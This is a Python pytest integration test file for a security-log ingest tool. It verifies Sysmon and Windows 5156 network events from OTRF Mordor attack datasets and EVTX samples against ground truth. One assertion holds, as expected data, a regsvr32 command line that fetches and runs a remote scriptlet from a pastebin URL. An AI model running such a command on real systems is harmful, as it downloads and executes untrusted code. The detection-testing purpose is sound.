"""Integration on ../shared/realdata (skipped when absent): the OTRF labelled pairs and the EVTX samples.

Expectations come from ground_truth.csv and from reading the raw events with plain `json`/`evtx` here,
independently of the ingest code.
"""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import datetime
from pathlib import Path

import duckdb
import pytest

from kqlhunt.ingest import run

REAL = next((p for p in (Path("/work/shared/realdata"), Path(__file__).parents[3] / "shared" / "realdata")
             if p.is_dir()), None)
pytestmark = pytest.mark.skipif(REAL is None, reason="../shared/realdata is absent")


@pytest.fixture(scope="module")
def otrf_lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    lake = tmp_path_factory.mktemp("otrf") / "lake"
    report = run([str(REAL / "otrf-mordor")], lake)
    # the only unreadable input is ground_truth.csv (not telemetry); the YAML files are skipped as metadata
    assert [Path(f.source).name for f in report.files if f.error] == ["ground_truth.csv"]
    assert report.totals()["quarantined"] == 1
    return lake


def _lake(lake: Path) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect()
    con.execute(f"CREATE VIEW l AS SELECT * FROM read_parquet('{lake}/DeviceNetworkEvents/**/*.parquet')")
    return con


def _sysmon3_times(dataset: str, image: str, ip: str, port: str) -> list[datetime]:
    """UtcTime of the labelled Sysmon 3 events, straight from the archive."""
    archive = next((REAL / "otrf-mordor" / dataset).glob("*.zip"))
    times = []
    with zipfile.ZipFile(archive) as z:
        for name in z.namelist():
            if name.startswith("__MACOSX"):
                continue
            for raw in z.open(name):
                try:
                    event = json.loads(raw)
                except ValueError:
                    continue
                if event.get("EventID") == 3 and event.get("DestinationIp") == ip and \
                        str(event.get("DestinationPort")) == port and \
                        str(event.get("Image", "")).lower().endswith("\\" + image):
                    times.append(datetime.strptime(event["UtcTime"], "%Y-%m-%d %H:%M:%S.%f"))
    return sorted(times)


def _truth() -> list[dict[str, str]]:
    with (REAL / "otrf-mordor" / "ground_truth.csv").open() as fh:
        return [row for row in csv.DictReader(fh) if (REAL / "otrf-mordor" / row["dataset"]).is_dir()]


@pytest.mark.parametrize("row", _truth(), ids=lambda r: f"{r['dataset']}:{r['image'].split()[0]}")
def test_labelled_pairs(otrf_lake: Path, row: dict[str, str]) -> None:
    image = row["image"].split()[0]
    con = _lake(otrf_lake)
    query = f"""SELECT Timestamp, AdditionalFields->>'Source' AS src, DeviceName FROM l
        WHERE SourceFile LIKE '%/{row['dataset']}.zip!%' AND lower(InitiatingProcessFileName) = '{image}'
          AND RemoteIP = '{row['dst_ip']}' AND RemotePort = {int(row['dst_port'])}
          AND ActionType = 'ConnectionSuccess' ORDER BY Timestamp"""
    found = con.execute(query).fetchall()
    if row["sysmon3_events"].startswith("0 (Security 5156: "):
        expected = int(row["sysmon3_events"].split(": ")[1].rstrip(")"))
        assert sum(1 for r in found if r[1] == "Security") == expected
        return
    sysmon = [r[0] for r in found if r[1] == "Sysmon"]
    assert len(sysmon) == int(row["sysmon3_events"])
    if "unknown process" in row["image"]:
        assert found and all(r[1] == "Sysmon" for r in found)  # named by the 5156 event of the same connection
        return
    assert sysmon == _sysmon3_times(row["dataset"], image, row["dst_ip"], row["dst_port"])


def test_empire_beacon_on_workstation5(otrf_lake: Path) -> None:
    con = _lake(otrf_lake)
    devices, accounts, local = con.execute("""SELECT list(DISTINCT DeviceName), list(DISTINCT
        InitiatingProcessAccountName), list(DISTINCT LocalIPType) FROM l
        WHERE SourceFile LIKE '%empire_mimikatz_logonpasswords.zip!%'
          AND InitiatingProcessFileName ILIKE 'powershell.exe' AND RemoteIP = '10.10.10.5'""").fetchone()
    assert devices == ["workstation5.theshire.local"] and accounts == ["pgustavo"] and local == ["Private"]


def test_evtx_samples(tmp_path: Path) -> None:
    evtx = pytest.importorskip("evtx")
    samples = sorted((REAL / "evtx-samples").glob("*.evtx"))
    expected = {}
    for path in samples:
        for record in evtx.PyEvtxParser(str(path)).records_json():
            event = json.loads(record["data"])["Event"]
            eid = event["System"]["EventID"]
            eid = eid if isinstance(eid, int) else eid["#text"]
            if eid in (3, 5156):
                data = event["EventData"]
                remote = data.get("DestinationIp") or data.get("DestAddress")
                expected[(str(path.resolve()), str(record["event_record_id"]))] = (str(eid), remote)
    report = run([str(p) for p in samples], tmp_path / "lake")
    assert report.totals()["quarantined"] == 0
    con = _lake(tmp_path / "lake")
    got = {(f, r): (a, ip) for f, r, a, ip in con.execute(
        "SELECT SourceFile, SourceRecord, AdditionalFields->>'EventID', RemoteIP FROM l").fetchall()}
    # every Sysmon 3 and 5156 record arrives (5156 is inbound for some: then the remote is its Source)
    assert set(got) == set(expected)  # provenance: the record number in the file's record header
    assert all(got[k][0] == v[0] for k, v in expected.items())
    regsvr = con.execute("""SELECT InitiatingProcessFileName, InitiatingProcessCommandLine, RemoteIP, RemotePort,
        InitiatingProcessSHA1 FROM l WHERE SourceFile LIKE '%sysmon-regsvr32-sct.evtx'""").fetchall()
    assert regsvr == [("regsvr32.exe", "regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll",
                       "104.20.208.21", 80, "a774a816662ff5b75669aa5bce751bab9d0972b8")]


def test_truncated_evtx_is_counted(tmp_path: Path) -> None:
    pytest.importorskip("evtx")
    sample = REAL / "evtx-samples" / "security-5156-rdp-tunnel.evtx"
    data = sample.read_bytes()
    broken = tmp_path / "broken.evtx"
    # keep the file header and first chunk header, garble the records area of the first chunk
    broken.write_bytes(data[:4096 + 512 + 2000] + b"\x00" * 3000 + data[4096 + 512 + 5000:])
    report = run([str(broken)], tmp_path / "lake")
    f = report.files[0]
    assert f.read == f.written + sum(f.skipped.values()) + f.quarantined
    assert f.read == 101 and f.quarantined > 0  # the chunk header promises 101 records


def test_truncated_evtx_records_are_quarantined(tmp_path: Path) -> None:
    pytest.importorskip("evtx")
    data = (REAL / "evtx-samples" / "security-5156-rdp-tunnel.evtx").read_bytes()
    cut = tmp_path / "cut.evtx"
    cut.write_bytes(data[: len(data) // 2])
    report = run([str(cut)], tmp_path / "lake")
    f = report.files[0]
    lines = (tmp_path / "lake" / "_ingest" / "quarantine").glob("*.jsonl")
    entries = [json.loads(x) for p in lines for x in p.read_text().splitlines()]
    assert f.read == 101 and f.written + f.quarantined + sum(f.skipped.values()) == 101
    assert len(entries) == f.quarantined and all("truncated chunk 0" in e["reason"] for e in entries)
